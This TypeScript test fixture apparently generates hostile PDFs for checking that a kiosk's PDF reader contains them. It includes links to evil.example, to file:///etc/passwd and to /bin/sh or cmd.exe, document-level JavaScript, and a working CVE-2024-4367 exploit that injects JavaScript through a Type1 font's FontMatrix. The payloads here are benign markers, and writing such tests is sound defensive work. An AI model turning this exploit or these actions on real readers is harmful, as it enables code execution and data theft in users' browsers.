/**
 * PDFs that try to get out of the reader, made by code here so a reader sees each trick:
 * link actions that would open the web, a file or a program or run JavaScript, document-level
 * JavaScript, and the CVE-2024-4367 payload (JavaScript smuggled into a Type1 font's FontMatrix,
 * drawn with a pattern fill so a vulnerable PDF.js would compile the glyphs into code).
 */
import { PDFDocument, PDFName, PDFString, StandardFonts, type PDFDict, type PDFObject, type PDFRef } from 'pdf-lib';

const a4 = { width: 595, height: 842 } as const;

/** What the payloads would do if they ran: the spec asserts none of it happened. */
export const payloadEffects = {
  global: '__pdfPayloadRan',
  title: 'PWNED',
  hash: '#pwned',
} as const;

const payload = `window.${payloadEffects.global} = true; document.title = '${payloadEffects.title}'; location.hash = '${payloadEffects.hash}';`;

/** A string for a PDF literal: parentheses and backslashes escaped (pdf-lib writes the text as given). */
function literal(text: string): PDFString {
  return PDFString.of(text.replace(/[\\()]/g, (character) => `\\${character}`));
}

/** The link rectangles on page 1, in PDF points from the bottom left, each with the action it carries. */
export const hostileLinks = [
  { label: 'web', rect: [50, 700, 545, 730], action: { S: 'URI', URI: 'https://evil.example/steal' } },
  { label: 'javascript: URI', rect: [50, 650, 545, 680], action: { S: 'URI', URI: `javascript:${payload}` } },
  { label: 'file URI', rect: [50, 600, 545, 630], action: { S: 'URI', URI: 'file:///etc/passwd' } },
  { label: 'launch', rect: [50, 550, 545, 580], action: { S: 'Launch', F: '/bin/sh', Win: { F: 'cmd.exe' } } },
  { label: 'JavaScript', rect: [50, 500, 545, 530], action: { S: 'JavaScript', JS: payload } },
  {
    label: 'submit form',
    rect: [50, 450, 545, 480],
    action: { S: 'SubmitForm', F: { FS: 'URL', F: 'https://evil.example/submit' } },
  },
  { label: 'remote go-to', rect: [50, 400, 545, 430], action: { S: 'GoToR', F: '/etc/passwd', D: [0, 'Fit'] } },
] as const;

export async function hostileActionsPdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([a4.width, a4.height]);
  const context = doc.context;
  page.drawText('Every link on this page tries to leave the reader.', { x: 50, y: 780, size: 16, font });
  const action = (spec: (typeof hostileLinks)[number]['action']): PDFDict => {
    const dict = context.obj({ Type: 'Action', S: spec.S });
    const set = (key: string, value: PDFObject) => dict.set(PDFName.of(key), value);
    if ('URI' in spec) set('URI', literal(spec.URI));
    if ('JS' in spec) set('JS', literal(spec.JS));
    if (spec.S === 'Launch') {
      set('F', literal(spec.F));
      set('Win', context.obj({ F: literal(spec.Win.F), P: literal('/c calc') }));
    }
    if (spec.S === 'SubmitForm') set('F', context.obj({ FS: 'URL', F: literal(spec.F.F) }));
    if (spec.S === 'GoToR') {
      set('F', literal(spec.F));
      set('D', context.obj([0, 'Fit']));
    }
    return dict;
  };
  const annotations: PDFRef[] = hostileLinks.map((link) => {
    page.drawText(`Link: ${link.label}`, { x: link.rect[0] + 4, y: link.rect[1] + 8, size: 14, font });
    return context.register(
      context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [...link.rect], Border: [0, 0, 0], A: action(link.action) }),
    );
  });
  page.node.set(PDFName.of('Annots'), context.obj(annotations));
  // Document-level JavaScript three ways: on open, in the names tree, and when the page opens.
  const script = () => context.obj({ Type: 'Action', S: 'JavaScript', JS: literal(payload) });
  doc.catalog.set(PDFName.of('OpenAction'), script());
  doc.catalog.set(
    PDFName.of('Names'),
    context.obj({ JavaScript: context.obj({ Names: [literal('payload'), script()] }) }),
  );
  page.node.set(PDFName.of('AA'), context.obj({ O: script() }));
  return doc.save({ useObjectStreams: false });
}

/**
 * CVE-2024-4367: a Type1 font whose FontMatrix ends in a string that closes the glyph code a
 * vulnerable PDF.js generates and appends the payload. Checked to work: opened with
 * pdfjs-dist 4.1.392 (isEvalSupported at its default, useSystemFonts off as in the kiosk's reader),
 * it sets the global, the title and the hash.
 */
export async function fontMatrixPayloadPdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([a4.width, a4.height]);
  const context = doc.context;
  // A real Type1 program (boxes for A–F and a–f) without a FontMatrix of its own, so a vulnerable
  // PDF.js takes the dictionary's, and a pattern fill makes it compile the glyphs into code.
  const program = boxGlyphsType1();
  const fontFile = context.register(
    context.stream(program.bytes, { Length1: program.clearLength, Length2: program.encryptedLength, Length3: 0 }),
  );
  const descriptor = context.register(
    context.obj({
      Type: 'FontDescriptor',
      FontName: 'EVILXX+Payload',
      Flags: 32,
      FontBBox: [-6, -12, 579, 713],
      ItalicAngle: 0,
      Ascent: 751,
      Descent: -173,
      CapHeight: 713,
      StemV: 100,
      MissingWidth: 250,
      FontFile: fontFile,
    }),
  );
  const font = context.register(
    context.obj({
      Type: 'Font',
      Subtype: 'Type1',
      BaseFont: 'EVILXX+Payload',
      FirstChar: 65,
      LastChar: 102,
      Widths: Array.from({ length: 38 }, () => 500),
      Encoding: 'WinAnsiEncoding',
      FontMatrix: [0.1, 0, 0, 0.1, 0, literal(`1);\n${payload}\n//`)],
      FontDescriptor: descriptor,
    }),
  );
  const tiling = context.register(
    context.stream('0.65 g 0 0 16 16 re f 0.15 g 0 0 8 8 re f 8 8 8 8 re f', {
      Type: 'Pattern',
      PatternType: 1,
      PaintType: 1,
      TilingType: 1,
      BBox: [0, 0, 16, 16],
      XStep: 16,
      YStep: 16,
      Resources: {},
    }),
  );
  const shading = context.register(
    context.obj({
      Type: 'Pattern',
      PatternType: 2,
      Shading: {
        ShadingType: 2,
        ColorSpace: 'DeviceRGB',
        Coords: [46, 400, 537, 400],
        Function: { FunctionType: 2, Domain: [0, 1], C0: [0, 0, 1], C1: [1, 0.6, 0], N: 1 },
      },
    }),
  );
  page.node.set(PDFName.of('Resources'), context.obj({ Font: { F1: font }, Pattern: { P1: tiling, P2: shading } }));
  const content = "BT 50 500 Td 117 TL /F1 150 Tf /Pattern cs /P1 scn (AbCdEf) Tj /P2 scn (AbCdEf) ' ET";
  page.node.set(PDFName.of('Contents'), context.register(context.stream(content)));
  return doc.save({ useObjectStreams: false });
}

/** Type 1 encryption (eexec and charstrings differ only in the starting key); `lenIV` zero bytes lead. */
function type1Encrypt(plain: readonly number[], key: number): number[] {
  let r = key;
  return [0, 0, 0, 0, ...plain].map((byte) => {
    const cipher = (byte ^ (r >> 8)) & 0xff;
    r = ((cipher + r) * 52845 + 22719) & 0xffff;
    return cipher;
  });
}

/** A Type 1 charstring number. */
function type1Number(value: number): number[] {
  if (value >= -107 && value <= 107) return [value + 139];
  if (value >= 108 && value <= 1131) return [((value - 108) >> 8) + 247, (value - 108) & 0xff];
  if (value <= -108 && value >= -1131) return [((-value - 108) >> 8) + 251, (-value - 108) & 0xff];
  throw new Error(`${value} does not fit a short Type 1 number`);
}

/** A minimal Type 1 font whose glyphs A–F and a–f are filled boxes, and which sets no FontMatrix. */
function boxGlyphsType1(): { bytes: Uint8Array; clearLength: number; encryptedLength: number } {
  const ascii = (text: string) => [...new TextEncoder().encode(text)];
  const clear = ascii(
    [
      '%!PS-AdobeFont-1.0: Payload 001',
      '10 dict begin',
      '/FontName /Payload def',
      '/FontType 1 def',
      '/PaintType 0 def',
      '/FontBBox {0 0 600 700} readonly def',
      '/Encoding StandardEncoding def',
      'currentdict end',
      'currentfile eexec',
      '',
    ].join('\n'),
  );
  // hsbw, rmoveto, hlineto, vlineto, hlineto, closepath, endchar
  const box = [
    ...type1Number(0),
    ...type1Number(500),
    13,
    ...type1Number(100),
    ...type1Number(0),
    21,
    ...type1Number(400),
    6,
    ...type1Number(600),
    7,
    ...type1Number(-400),
    6,
    9,
    14,
  ];
  const glyph = (name: string, charstring: number[]) => {
    const encrypted = type1Encrypt(charstring, 4330);
    return [...ascii(`/${name} ${encrypted.length} RD `), ...encrypted, ...ascii(' ND\n')];
  };
  const names = ['A', 'B', 'C', 'D', 'E', 'F', 'a', 'b', 'c', 'd', 'e', 'f'];
  const privatePart = [
    ...ascii('dup /Private 8 dict dup begin\n'),
    ...ascii('/RD {string currentfile exch readstring pop} executeonly def\n'),
    ...ascii('/ND {noaccess def} executeonly def\n/NP {noaccess put} executeonly def\n'),
    ...ascii('/lenIV 4 def\n/Subrs 0 array\n'),
    ...ascii(`2 index /CharStrings ${names.length + 1} dict dup begin\n`),
    ...glyph('.notdef', [...type1Number(0), ...type1Number(500), 13, 14]),
    ...names.flatMap((name) => glyph(name, box)),
    ...ascii(
      'end\nend\nreadonly put\nnoaccess put\ndup /FontName get exch definefont pop\nmark currentfile closefile\n',
    ),
  ];
  const encrypted = type1Encrypt(privatePart, 55665);
  return {
    bytes: Uint8Array.from([...clear, ...encrypted]),
    clearLength: clear.length,
    encryptedLength: encrypted.length,
  };
}
